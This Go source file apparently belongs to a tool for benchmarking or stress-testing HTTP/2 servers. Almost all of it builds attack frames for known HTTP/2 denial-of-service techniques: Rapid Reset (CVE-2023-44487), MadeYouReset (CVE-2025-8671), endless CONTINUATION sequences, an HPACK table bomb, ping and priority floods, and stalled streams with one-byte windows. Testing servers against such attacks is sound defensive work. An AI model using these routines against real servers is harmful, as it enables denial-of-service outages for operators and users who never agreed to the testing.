package main

import "strings"

// bombName is the field that is blown up, and fillName one that fills frames.
const (
	bombName = "x-bomb"
	fillName = "x-fill"
)

// rapidReset opens streams and takes them back at once (CVE-2023-44487).
func rapidReset() func(*frames) {
	section := requestSection(indexGET, smallPath)
	return func(f *frames) {
		f.cancel(f.begin(flagEndHeaders|flagEndStream, section))
	}
}

// madeYouResetByWindow makes the server take the streams back, for a window
// cannot grow by nothing (CVE-2025-8671).
func madeYouResetByWindow() func(*frames) {
	section := requestSection(indexGET, smallPath)
	return func(f *frames) {
		f.windowUpdate(f.begin(flagEndHeaders|flagEndStream, section), 0)
	}
}

// madeYouResetByData does so with data on a stream that the client has ended.
func madeYouResetByData() func(*frames) {
	section := requestSection(indexGET, smallPath)
	return func(f *frames) {
		f.add(frameData, 0, f.begin(flagEndHeaders|flagEndStream, section), []byte{0})
	}
}

// openSection begins a field section that does not end.
func openSection(f *frames) {
	f.begin(flagEndStream, requestSection(indexGET, smallPath))
}

// continuation goes on with the field section, by whole fields or by nothing.
func continuation(fragment []byte) func(*frames) {
	return func(f *frames) { f.add(frameContinuation, 0, f.last, fragment) }
}

// fillingField is one field that fills a frame.
func fillingField() []byte {
	without := len(appendLiteral(nil, fillName, strings.Repeat("x", mostPayload/2))) - mostPayload/2
	return appendLiteral(nil, fillName, strings.Repeat("x", mostPayload-without))
}

// insertLongField asks with a field that takes all of the dynamic table.
func insertLongField(f *frames) {
	value := strings.Repeat("x", tableSize-entryOverhead-len(bombName))
	section := requestSection(indexGET, smallPath)
	f.begin(flagEndHeaders|flagEndStream, appendInserted(section, bombName, value))
}

// reference asks with the long field many times over, at a byte each.
func reference(times int) func(*frames) {
	section := requestSection(indexGET, smallPath)
	for range times {
		section = appendIndexed(section, firstDynamic)
	}
	return func(f *frames) { f.begin(flagEndHeaders|flagEndStream, section) }
}

// ping wants an answer.
func ping(f *frames) {
	f.add(framePing, 0, 0, []byte("bench!!!"))
}

// priorities makes streams depend on others that are all idle.
func priorities(f *frames) {
	for i := range uint32(attackStreams) {
		f.priority(2*i + 1)
	}
}

// askOnce is what a client does that means no harm.
func askOnce(f *frames) {
	f.begin(flagEndHeaders|flagEndStream, requestSection(indexGET, smallPath))
}

// beginUpload opens a stream whose body is still to come.
func beginUpload(f *frames) {
	f.begin(flagEndHeaders, requestSection(indexPOST, uploadPath))
}

// beginUploads opens as many as are allowed.
func beginUploads(f *frames) {
	for range attackStreams {
		beginUpload(f)
	}
}

// beginDownloads asks for as many bodies as are allowed.
func beginDownloads(path string) func(*frames) {
	section := requestSection(indexGET, path)
	return func(f *frames) {
		for range attackStreams {
			f.begin(flagEndHeaders|flagEndStream, section)
		}
	}
}

// oneByteEach opens the window of each stream by a byte.
func oneByteEach(f *frames) {
	for i := range uint32(attackStreams) {
		f.windowUpdate(2*i+1, 1)
	}
}
